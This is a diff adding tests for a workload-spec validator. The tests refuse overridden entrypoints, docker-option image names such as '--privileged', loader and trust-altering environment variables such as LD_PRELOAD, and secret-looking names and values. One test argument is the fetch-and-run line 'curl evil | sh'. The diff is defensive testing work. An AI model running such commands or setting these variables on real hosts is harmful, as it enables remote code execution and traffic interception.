@@ -7,7 +7,19 @@ import type { Client } from "@connectrpc/connect";
 import type { RegistryService } from "@fabric/proto/fabric/registry/v1/registry_pb.js";
 import { FabricError } from "@fabric/platform";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { validateWorkloadSpec } from "../src/workload-rules.js";
+import {
+  LOADER_NAMES,
+  LOADER_PREFIXES,
+  isLoaderVariable,
+  looksLikeSecretName,
+  secretValueKind,
+  validateWorkloadSpec,
+} from "../src/workload-rules.js";
+import {
+  REFUSED_NAMES as AGENT_REFUSED_NAMES,
+  REFUSED_PREFIXES as AGENT_REFUSED_PREFIXES,
+  loaderVariable as agentLoaderVariable,
+} from "../../../agent/src/supervisor/workload-env.js";
 import { Code, refusal } from "./support/calls.js";
 import { startRegistry, type RegistryFixture } from "./support/registry-fixture.js";
 
@@ -89,6 +101,180 @@ describe("environment guard rules", () => {
         /guard rule: reload is only allowed in dev/,
       );
     }
+  });
+});
+
+describe("pro runs a digest-pinned image exactly as built", () => {
+  const pinned = { runtime: Runtime.CONTAINER, environment: Environment.PRO, image: `app@${DIGEST}` };
+
+  it.each([
+    ["an entrypoint", { command: "/bin/sh" }, /leave spec.command \(the entrypoint\) empty/],
+    [
+      "the image's command",
+      { args: ["-c", "curl evil | sh"] },
+      /leave spec.args \(the image's command\) empty/,
+    ],
+    ["the working directory", { workingDir: "/tmp" }, /leave spec.working_dir empty/],
+    [
+      "all three",
+      { command: "/bin/sh", args: ["-c", "id"], workingDir: "/" },
+      /spec.command \(the entrypoint\), spec.args \(the image's command\), spec.working_dir/,
+    ],
+  ])("refuses a pro spec that overrides %s", (_what, override, message) => {
+    const refused = refusedWith(spec({ ...pinned, ...override }));
+    expect(refused).toMatch(/guard rule: a pro image runs exactly as built/);
+    expect(refused).toMatch(message);
+  });
+
+  it("accepts a pinned pro image with configuration only; tst (not pinned) may still override", () => {
+    expect(() => validateWorkloadSpec(spec({ ...pinned, env: { MODE: "fast" } }))).not.toThrow();
+    expect(() =>
+      validateWorkloadSpec(
+        spec({ environment: Environment.TST, image: "app:1.2", command: "/app", args: ["--check"] }),
+      ),
+    ).not.toThrow();
+  });
+
+  it("runs native workloads only in dev: a host command is neither immutable nor pinned", () => {
+    for (const environment of [Environment.TST, Environment.PRO]) {
+      expect(refusedWith(spec({ runtime: Runtime.NATIVE, environment, command: "/usr/bin/app" }))).toMatch(
+        /RUNTIME_NATIVE is only allowed in dev/,
+      );
+    }
+    expect(() =>
+      validateWorkloadSpec(spec({ runtime: Runtime.NATIVE, command: "/usr/bin/app" })),
+    ).not.toThrow();
+  });
+
+  it("refuses an image reference docker would read as one of its options", () => {
+    for (const image of ["--privileged", "-v/:/host", `--volume=/:/host@${DIGEST}`]) {
+      expect(refusedWith(spec({ image }))).toMatch(/spec.image must be an image reference/);
+    }
+  });
+});
+
+describe("environment variables that change how code loads or what it trusts", () => {
+  const refused = [
+    ...["LD_PRELOAD", "ld_preload", "LD_LIBRARY_PATH", "LD_AUDIT", "DYLD_INSERT_LIBRARIES"],
+    ...["GCONV_PATH", "GLIBC_TUNABLES", "LOCPATH", "PATH", "Path", "HOME"],
+    ...["NODE_OPTIONS", "node_options", "NODE_PATH", "PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME"],
+    ...["PYTHONWARNINGS", "PERL5OPT", "PERL5LIB", "RUBYOPT", "RUBYLIB", "JAVA_TOOL_OPTIONS"],
+    ...["_JAVA_OPTIONS", "JDK_JAVA_OPTIONS", "CLASSPATH", "BASH_ENV", "ENV", "PROMPT_COMMAND", "PS4"],
+    ...["IFS", "BASH_FUNC_ls", "GIT_SSH_COMMAND", "GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0"],
+    ...["SSL_CERT_FILE", "SSL_CERT_DIR", "NODE_EXTRA_CA_CERTS", "NODE_TLS_REJECT_UNAUTHORIZED"],
+    ...["REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "SSLKEYLOGFILE", "OPENSSL_CONF"],
+    ...["HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "GRPC_PROXY"],
+  ];
+  const allowed = ["MODE", "GREETING", "NODE_ENV", "NO_PROXY", "no_proxy", "LANG", "TZ", "PORT"];
+
+  it.each(refused)("refuses %s, naming it", (name) => {
+    expect(refusedWith(spec({ env: { [name]: "/tmp/x" } }))).toBe(
+      `spec.env: ${JSON.stringify(name)} changes how the process loads code or what it trusts; workloads may not set it`,
+    );
+  });
+
+  it.each(allowed)("accepts %s", (name) => {
+    expect(() => validateWorkloadSpec(spec({ env: { [name]: "1" } }))).not.toThrow();
+  });
+
+  it("refuses exactly what fabric-agent refuses before it starts a process", () => {
+    expect([...LOADER_NAMES].sort()).toEqual([...AGENT_REFUSED_NAMES].sort());
+    expect(LOADER_PREFIXES).toEqual(AGENT_REFUSED_PREFIXES);
+    for (const name of [...refused, ...allowed, "LD_", "X_PROXY", "PROXY", "FTP_PROXY"]) {
+      expect(isLoaderVariable(name), name).toBe(agentLoaderVariable(name) !== undefined);
+    }
+  });
+});
+
+describe("secrets in a spec distributed in clear", () => {
+  const secretNames = [
+    ...["DB_PASSWORD", "DB_PASS", "MYSQL_PWD", "dbPwd", "PASSPHRASE", "API_KEY", "apiKey", "STRIPE_KEY"],
+    ...["SECRET_KEY", "ENCRYPTION_KEY", "SSH_KEYS", "AWS_SECRET_ACCESS_KEY", "AWS_ACCESS_KEY_ID"],
+    ...["AWS_SESSION_TOKEN", "GITHUB_TOKEN", "NPM_AUTHTOKEN", "GOOGLE_APPLICATION_CREDENTIALS"],
+    ...["DOCKER_CREDS", "AUTH", "BASIC_AUTH", "HTTP_AUTHORIZATION", "BEARER", "SESSION_COOKIE"],
+    ...["COOKIE", "sessionId", "SESSION", "SENTRY_DSN", "DSN", "CONN_STR", "DB_CONNECTION_STRING"],
+    ...["SIGNING_KEY", "JWT_SIGNING", "PASSWORD_SALT", "SALT", "PRIVATE_KEY", "TLS_PRIVATE", "JWT"],
+    ...["SLACK_WEBHOOK", "DISCORD_WEBHOOK_URL", "ADMIN_PIN", "CLIENT_SECRET", "clientSecret"],
+  ];
+  const harmlessNames = [
+    ...["MODE", "GREETING", "PORT", "LOG_LEVEL", "TOKENIZERS_PARALLELISM", "GIT_AUTHOR_NAME"],
+    ...["AUTHOR", "KEYBOARD_LAYOUT", "PWD", "DATABASE_URL", "COMPASS_URL", "BYPASS_CACHE", "PASSENGER_ENV"],
+  ];
+  const key = (prefix: string, n: number) => prefix + "a1B2c3D4e5".repeat(10).slice(0, n);
+  const secretValues: [string, RegExp][] = [
+    ["-----BEGIN PRIVATE KEY-----\nMIGH...\n-----END PRIVATE KEY-----", /a PEM private key/],
+    ["-----BEGIN RSA PRIVATE KEY-----", /a PEM private key/],
+    ["-----BEGIN OPENSSH PRIVATE KEY-----", /a PEM private key/],
+    ["-----BEGIN ENCRYPTED PRIVATE KEY-----", /a PEM private key/],
+    [
+      Buffer.from("-----BEGIN EC PRIVATE KEY-----\nMHcCAQEE\n-----END EC PRIVATE KEY-----\n").toString(
+        "base64",
+      ),
+      /a PEM private key, base64-encoded/,
+    ],
+    ["postgres://app:hunter2@db:5432/app", /a URL with a password/],
+    ["redis://:s3cret@cache:6379/0", /a URL with a password/],
+    ["https://deploy:x@git.example/org/repo.git", /a URL with a password/],
+    ["Server=db;User Id=app;Password=hunter2;", /a connection string with a password/],
+    ["DefaultEndpointsProtocol=https;AccountName=a;AccountKey=abc==", /a connection string/],
+    ["Bearer abcdefghijklmnop1234", /an Authorization header value/],
+    ["eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl", /a JWT/],
+    [key("ghp_", 36), /a GitHub token/],
+    [key("github_pat_", 60), /a GitHub token/],
+    [key("glpat-", 20), /a GitLab token/],
+    ["xoxb-1234567890-abcdefghij", /a Slack token/],
+    ["https://hooks.slack.com/services/T000/B000/XXXXXXXX", /a webhook URL/],
+    ["AKIAIOSFODNN7EXAMPLE", /an AWS access key/],
+    [key("sk_live_", 24), /a Stripe key/],
+    [key("sk-proj-", 40), /an API secret key/],
+    [key("AIza", 35), /a Google API key/],
+    [key("npm_", 36), /an npm token/],
+    [`SG.${key("", 22)}.${key("", 43)}`, /a SendGrid key/],
+  ];
+  const harmlessValues = [
+    ...["edge", "postgres://db:5432/app", "postgres://app@db:5432/app", "ssh://git@github.com/o/r.git"],
+    ...["http://127.0.0.1:8080/path@v2", "-----BEGIN CERTIFICATE-----", "-----BEGIN PUBLIC KEY-----"],
+    ...["sk-short", key("task-", 44), "Basic", "AKIA", "eyJhbGciOiJIUzI1NiJ9"],
+    Buffer.from("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n").toString("base64"),
+  ];
+
+  it.each(secretNames)("refuses the name %s", (name) => {
+    expect(looksLikeSecretName(name)).toBe(true);
+    expect(refusedWith(spec({ env: { [name]: "x" } }))).toBe(
+      `spec.env: ${JSON.stringify(name)} looks like a secret; workload specs are distributed in clear, so never put credentials in them`,
+    );
+  });
+
+  it.each(harmlessNames)("accepts the name %s", (name) => {
+    expect(looksLikeSecretName(name)).toBe(false);
+    expect(() => validateWorkloadSpec(spec({ env: { [name]: "x" } }))).not.toThrow();
+  });
+
+  it.each(secretValues)("refuses the value %s wherever it is, without echoing it", (value, kind) => {
+    expect(secretValueKind(value)).toMatch(kind);
+    const at = [
+      refusedWith(spec({ env: { MODE: value } })),
+      refusedWith(spec({ args: ["--flag", value] })),
+      refusedWith(spec({ runtime: Runtime.NATIVE, command: value })),
+      refusedWith(spec({ labels: { note: value.split("\n")[0]!.slice(0, 255) } })),
+      refusedWith(spec({ healthCheck: { probe: { case: "exec", value: { command: ["/check", value] } } } })),
+    ];
+    expect(at.map((m) => m.split(" looks like")[0])).toEqual([
+      'spec.env: the value of "MODE"',
+      "spec.args[1]",
+      "spec.command",
+      'spec.labels: "note"',
+      "spec.health_check.exec.command[1]",
+    ]);
+    for (const message of at) {
+      expect(message).toMatch(kind);
+      expect(message).not.toContain(value.slice(0, 24));
+    }
+  });
+
+  it.each(harmlessValues)("accepts the value %s", (value) => {
+    expect(secretValueKind(value)).toBeUndefined();
+    expect(() => validateWorkloadSpec(spec({ env: { MODE: value }, args: [value] }))).not.toThrow();
   });
 });
 
